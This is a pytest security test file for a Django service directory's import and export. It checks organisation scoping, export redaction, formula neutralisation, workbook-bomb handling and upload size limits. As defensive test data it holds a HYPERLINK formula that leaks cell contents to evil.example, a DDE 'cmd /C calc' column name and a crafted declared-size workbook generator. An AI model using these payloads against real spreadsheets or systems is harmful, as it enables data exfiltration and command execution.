"""Import and export against hostile or careless staff files: other organisations' records, scoped exports,
spreadsheet formulas, declared-size workbook bombs and oversized uploads (README, "Import and export").

Like test_import_export.py, the tests work in a throw-away SQLite database of this module's own.
"""
import csv
import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
DIRECTORY = ROOT / "directory"
import django_harness  # noqa: E402

django_harness.setup()

from django.contrib.auth import get_user_model  # noqa: E402
from django.test import Client, override_settings  # noqa: E402

from hsds import audit, import_views, roles, tabular  # noqa: E402
from hsds import models as m  # noqa: E402

User = get_user_model()


@pytest.fixture(scope="module", autouse=True)
def test_database(tmp_path_factory):
    with django_harness.throwaway_database(tmp_path_factory.mktemp("import-security")):
        yield


@pytest.fixture(autouse=True)
def rollback():
    with django_harness.rolled_back():
        yield


@pytest.fixture
def two():
    """Organisation A (with a service and a location) and another organisation B with a location of its own."""
    a_service = m.Service.objects.filter(organization__locations__isnull=False).order_by("id").first()
    a = a_service.organization
    b_location = m.Location.objects.exclude(organization=a).exclude(organization=None).order_by("id").first()
    assert a_service and b_location, "the demo city has two organisations with locations"
    return a, a_service, b_location.organization, b_location


def staff(username, role, organizations=()):
    user = User.objects.create_user(username, password="pw-" + username, is_staff=True)
    profile = m.StaffProfile.objects.create(user=user, role=role)
    profile.organizations.set(organizations)
    return user


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def write_table(folder: Path, name: str, header, rows) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    with open(folder / f"{name}.csv", "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)
    return folder


def export_tables(user=None, fmt="zip") -> dict:
    buffer = io.BytesIO()
    tabular.export(buffer, fmt, user=user)
    if fmt == "xlsx":
        return {"xlsx": buffer.getvalue()}
    with zipfile.ZipFile(buffer) as archive:
        return {name: list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8"), newline="")))
                for name in archive.namelist() if name.endswith(".csv")}


NEW = ["0b8d5e5e-0000-4000-8000-00000000000%d" % n for n in range(1, 10)]


# --- 1. editors write only into their own organisations -------------------------------------------------

@pytest.mark.parametrize("table, row", [
    ("phones", {"id": NEW[0], "service_id": "{a_service}", "location_id": "{b_location}", "number": "+1 514 555 0100"}),
    ("phones", {"id": NEW[1], "service_id": "{a_service}", "organization_id": "{b}", "number": "+1 514 555 0101"}),
    ("schedules", {"id": NEW[2], "service_id": "{a_service}", "location_id": "{b_location}", "byday": "MO", "freq": "WEEKLY",
                   "opens_at": "09:00", "closes_at": "17:00"}),
    ("service_at_location", {"id": NEW[3], "service_id": "{a_service}", "location_id": "{b_location}"}),
])
def test_an_editor_cannot_attach_rows_to_another_organisations_records(two, tmp_path, table, row):
    a, a_service, b, b_location = two
    editor = staff("amira", "editor", [a])
    values = {"a_service": a_service.id, "b_location": b_location.id, "b": b.id}
    row = {k: v.format(**values) for k, v in row.items()}
    folder = write_table(tmp_path / "package", table, list(row), [row])
    changes = m.ChangeRecord.objects.count()
    report = tabular.apply(folder, user=editor, who=editor.username)
    assert not report.applied
    assert [str(e) for e in report.errors] == [
        f"row 2 of {table}.csv: you may only import records of your own organisations (it belongs to {b.name})"]
    assert m.ChangeRecord.objects.count() == changes
    assert not m.Phone.objects.filter(id=row["id"]).exists() and not m.ServiceAtLocation.objects.filter(id=row["id"]).exists()
    # The admin and the write API (roles.can_change) give the same answer for the same record.
    model = {"phones": m.Phone, "schedules": m.Schedule, "service_at_location": m.ServiceAtLocation}[table]
    record = model(**{k: v for k, v in row.items() if k.endswith("_id")})
    assert not roles.can_change(editor, record)
    assert roles.can_change(staff("bea", "editor", [a, b]), record)


def test_a_phone_of_another_organisations_contact_is_not_an_editors(two, tmp_path):
    a, a_service, b, b_location = two
    m.ExtraRecord.objects.create(entity="contacts", record_id="c-b", data={"organization_id": str(b.id), "name": "Bo"})
    editor = staff("amira", "editor", [a])
    row = {"id": NEW[7], "service_id": str(a_service.id), "contact_id": "c-b", "number": "+1 514 555 0104"}
    report = tabular.apply(write_table(tmp_path / "package", "phones", list(row), [row]), user=editor, who="amira")
    assert [str(e) for e in report.errors] == [
        f"row 2 of phones.csv: you may only import records of your own organisations (it belongs to {b.name})"]


def test_an_editor_still_imports_rows_of_their_own_organisation(two, tmp_path):
    a, a_service, b, b_location = two
    editor = staff("amira", "editor", [a])
    row = {"id": NEW[4], "service_id": str(a_service.id), "number": "+1 514 555 0102"}
    report = tabular.apply(write_table(tmp_path / "package", "phones", list(row), [row]), user=editor, who="amira")
    assert report.applied, report.as_text()
    assert m.Phone.objects.get(id=NEW[4]).service_id == a_service.id


def test_a_change_to_another_organisations_record_shows_in_its_history(two, tmp_path):
    """An administrator links A's service to B's location: B's location history shows the link and its phone."""
    a, a_service, b, b_location = two
    link = {"id": NEW[5], "service_id": str(a_service.id), "location_id": str(b_location.id)}
    phone = {"id": NEW[6], "service_id": str(a_service.id), "location_id": str(b_location.id), "number": "+1 514 555 0103"}
    folder = write_table(tmp_path / "package", "service_at_location", list(link), [link])
    write_table(folder, "phones", list(phone), [phone])
    report = tabular.apply(folder, who="root")
    assert report.applied, report.as_text()
    shown = {(c.resource_type, str(c.resource_id)) for c in audit.history(b_location.id)}
    assert ("service_at_location", NEW[5]) in shown and ("phone", NEW[6]) in shown
    assert ("phone", NEW[6]) in {(c.resource_type, str(c.resource_id)) for c in audit.history(a_service.id)}
    # The link's own history (its admin History page) shows its creation once, not once per owner.
    assert [c.last_action_type for c in audit.history(NEW[5])] == ["create"]


def test_editors_cannot_change_shared_or_foreign_unmodelled_rows(two, tmp_path):
    a, a_service, b, b_location = two
    editor = staff("amira", "editor", [a])
    row = {"id": "c-1", "service_id": str(a_service.id), "location_id": str(b_location.id), "name": "Someone"}
    report = tabular.apply(write_table(tmp_path / "package", "contacts", list(row), [row]), user=editor, who="amira")
    assert not report.applied and "you may only import records of your own organisations" in str(report.errors[0])


# --- 2. exports hold what the staff member may read -------------------------------------------------------

@pytest.fixture
def contact(two):
    a, a_service, b, b_location = two
    m.ExtraRecord.objects.create(entity="contacts", record_id="c-a", data={
        "service_id": str(a_service.id), "name": "Dana Private", "email": "dana@example.org", "title": "Counsellor"})
    m.ExtraRecord.objects.create(entity="contacts", record_id="c-b", data={
        "organization_id": str(b.id), "name": "Bo Private", "email": "bo@example.org"})
    m.ExtraRecord.objects.create(entity="metadata", record_id="md-1", data={"updated_by": "Staff Name", "resource_id": str(a.id)})
    m.ExtraRecord.objects.create(entity="notes", record_id="n-1", data={"text": "internal"})
    return two


def test_an_editor_exports_only_their_organisations_without_personal_data(contact):
    a, a_service, b, b_location = contact
    tables = export_tables(staff("amira", "editor", [a]))
    assert {r["id"] for r in tables["organizations.csv"]} == {str(a.id)}
    assert {r["organization_id"] for r in tables["services.csv"]} == {str(a.id)}
    assert str(b_location.id) not in {r["id"] for r in tables["locations.csv"]}
    assert [r["id"] for r in tables["contacts.csv"]] == ["c-a"]
    assert "name" not in tables["contacts.csv"][0] and "email" not in tables["contacts.csv"][0]
    assert "metadata.csv" not in tables and "notes.csv" not in tables
    assert len(tables["taxonomy_terms.csv"]) == m.TaxonomyTerm.objects.count()   # shared: every editor has them


def test_a_viewer_exports_every_organisation_without_personal_data(contact):
    a, a_service, b, b_location = contact
    tables = export_tables(staff("vera", "viewer"))
    assert len(tables["organizations.csv"]) == m.Organization.objects.count()
    assert sorted(r["id"] for r in tables["contacts.csv"]) == ["c-a", "c-b"]
    assert not any(key in row for row in tables["contacts.csv"] for key in ("name", "email", "title"))
    assert "metadata.csv" not in tables and "notes.csv" not in tables


def test_administrators_export_everything_through_the_staff_page(contact):
    response = client_for(User.objects.create_superuser("root", password="pw-root")).get("/admin/export/?format=zip")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        contacts = archive.read("contacts.csv").decode()
        names = set(archive.namelist())
    assert "dana@example.org" in contacts and "Bo Private" in contacts
    assert {"metadata.csv", "notes.csv"} <= names
    viewer = client_for(staff("vera", "viewer")).get("/admin/export/?format=zip")
    with zipfile.ZipFile(io.BytesIO(viewer.content)) as archive:
        assert "dana@example.org" not in archive.read("contacts.csv").decode()


# --- 3. formulas --------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_csv_export_neutralises_formulas_and_the_round_trip_keeps_the_text(two, tmp_path):
    a, a_service, b, b_location = two
    a_service.name = FORMULA
    a_service.alert = "-1+2"
    a_service.extra = {**(a_service.extra or {}), "fees": "-5.50"}
    a_service.wait_time = "'=already quoted"
    a_service.save()
    buffer = io.BytesIO()
    tabular.export(buffer, "zip")
    with zipfile.ZipFile(buffer) as archive:
        services = archive.read("services.csv").decode()
        archive.extractall(tmp_path / "package")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(services, newline=""))}
    assert rows[str(a_service.id)]["name"] == "'" + FORMULA and rows[str(a_service.id)]["alert"] == "'-1+2"
    assert not re.search(r"(^|,)[=+@]", services, re.M)
    assert rows[str(a_service.id)]["fees"] == "-5.50"   # a negative number is not a formula: left as it is
    assert rows[str(a_service.id)]["wait_time"] == "''=already quoted"
    report = tabular.apply(tmp_path / "package", who="root")
    assert report.ok and report.changes == 0, report.as_text()
    assert m.Service.objects.get(id=a_service.id).name == FORMULA


def test_xlsx_export_writes_every_cell_and_header_as_text(two):
    a, a_service, b, b_location = two
    a_service.extra = {**(a_service.extra or {}), "=1+1": "=SUM(1,2)"}   # stored before column names were checked
    a_service.name = FORMULA
    a_service.save()
    workbook = export_tables(fmt="xlsx")["xlsx"]
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)


@pytest.mark.parametrize("column", ["=cmd|' /C calc'!A0", "@sum(a1)", "+x", "-x", "bad\ttab"])
def test_imported_column_names_are_checked(two, tmp_path, column):
    a, a_service, b, b_location = two
    row = {"id": str(a_service.id), column: "x"}
    report = tabular.apply(write_table(tmp_path / "package", "services", list(row), [row]), who="root")
    assert not report.applied and "are not allowed: a column name starts with a letter or digit" in str(report.errors[0])
    assert column not in (m.Service.objects.get(id=a_service.id).extra or {})


# --- 4. workbook bombs and oversized uploads ------------------------------------------------------------

BOMB_SCRIPT = r"""
import os, sys, time
sys.path.insert(0, sys.argv[1])
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "directory_site.settings")
import django
django.setup()
from hsds import tabular
start = time.monotonic()
try:
    package = tabular.read_package(sys.argv[2])
    outcome = "read " + ",".join(f"{n}:{len(s.header)}x{len(s.rows)}" for n, s in package.sheets.items())
except tabular.PackageError as error:
    outcome = "refused " + str(error)
print(outcome)
# VmHWM, not ru_maxrss: Linux keeps ru_maxrss across exec, so it would report the (large) test process.
peak_kb = int(next(line for line in open("/proc/self/status") if line.startswith("VmHWM")).split()[1])
print(round(time.monotonic() - start, 2), peak_kb // 1024)
"""


def crafted_workbook(path: Path, rows: int, last_row_number: int = 0) -> Path:
    """A small workbook whose sheet declares A1:XFD1048576 (and optionally a lone cell far below)."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "services"
    sheet.append(["id", "name"])
    for n in range(rows):
        sheet.append([f"s-{n}", f"Service {n}"])
    plain = path.with_suffix(".plain.xlsx")
    workbook.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                text, declared = re.subn(r'<dimension ref="[^"]*" ?/>', '<dimension ref="A1:XFD1048576"/>', data.decode())
                assert declared == 1
                if last_row_number:
                    text = text.replace("</sheetData>", f'<row r="{last_row_number}"><c r="A{last_row_number}" t="inlineStr">'
                                                        f"<is><t>x</t></is></c></row></sheetData>")
                data = text.encode()
            target.writestr(item, data)
    return path


def read_in_child(path: Path):
    """read_package in a child process: a bomb must not hang or swell the test process itself."""
    try:
        done = subprocess.run([sys.executable, "-c", BOMB_SCRIPT, str(DIRECTORY), str(path)], capture_output=True,
                              text=True, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("reading the workbook took more than 60 s")
    assert done.returncode == 0, done.stderr[-2000:]
    outcome, measures = done.stdout.strip().splitlines()[-2:]
    seconds, megabytes = measures.split()
    return outcome, float(seconds), int(megabytes)


def test_a_declared_size_bomb_is_read_at_its_real_size(tmp_path):
    bomb = crafted_workbook(tmp_path / "bomb.xlsx", rows=300)
    assert bomb.stat().st_size < 20_000
    outcome, seconds, megabytes = read_in_child(bomb)
    assert outcome == "read services:2x300"
    assert seconds < 5 and megabytes < 300, (seconds, megabytes)


def test_a_workbook_with_too_many_rows_is_refused_in_plain_words(tmp_path):
    bomb = crafted_workbook(tmp_path / "far.xlsx", rows=3, last_row_number=1_048_576)
    outcome, seconds, megabytes = read_in_child(bomb)
    assert outcome == "refused Sheet services has more than 200,000 rows; split it into smaller files."
    assert seconds < 10 and megabytes < 300, (seconds, megabytes)


class CountingInput(io.BytesIO):
    """The request body as the server receives it; counts what the application reads of it."""

    def __init__(self, data):
        super().__init__(data)
        self.taken = 0

    def read(self, size=-1):
        chunk = super().read(size)
        self.taken += len(chunk)
        return chunk

    def readline(self, size=-1):
        chunk = super().readline(size)
        self.taken += len(chunk)
        return chunk


@override_settings(IMPORT_MAX_UPLOAD_BYTES=1024 * 1024)
def test_an_oversized_upload_is_refused_before_its_body_is_read(tmp_path, monkeypatch):
    monkeypatch.setattr(import_views, "IMPORT_DIR", tmp_path / "imports")
    editor_client = client_for(User.objects.create_superuser("root", password="pw-root"))
    boundary = "BoUnDaRy"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.zip\"\r\n"
            f"Content-Type: application/zip\r\n\r\n").encode() + b"P" * (2 * 1024 * 1024) + f"\r\n--{boundary}--\r\n".encode()
    stream = CountingInput(body)
    response = editor_client.generic("POST", "/admin/import/", b"", content_type=f"multipart/form-data; boundary={boundary}",
                                     **{"wsgi.input": stream, "CONTENT_LENGTH": str(len(body))})
    assert response.status_code == 413
    assert "larger than 1 MB, the largest the directory accepts; nothing was read" in response.content.decode()
    assert stream.taken == 0
    assert not (tmp_path / "imports").exists()
    # A file under the limit still reaches the import page (and its plain-words checks).
    small = io.BytesIO(b"not a zip")
    small.name = "small.zip"
    assert "neither a zip of CSV files" in editor_client.post("/admin/import/", {"file": small}).content.decode()
